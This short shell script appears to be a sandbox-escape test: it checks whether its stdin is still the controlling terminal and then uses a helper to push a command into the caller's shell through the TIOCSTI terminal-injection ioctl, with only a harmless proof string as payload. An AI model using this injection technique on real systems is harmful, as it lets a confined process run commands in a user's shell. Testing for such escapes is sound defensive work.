# Attack: our stdin is the terminal we were started from. If it is still our
# controlling terminal, TIOCSTI types a command into it for the caller's shell.
echo "stdin: $(readlink /proc/self/fd/0)"
echo "session: $(cut -d' ' -f6 /proc/self/stat), terminal: $(cut -d' ' -f7 /proc/self/stat)"
mc-escape-tiocsti "echo PROOF $MC_NONCE
"
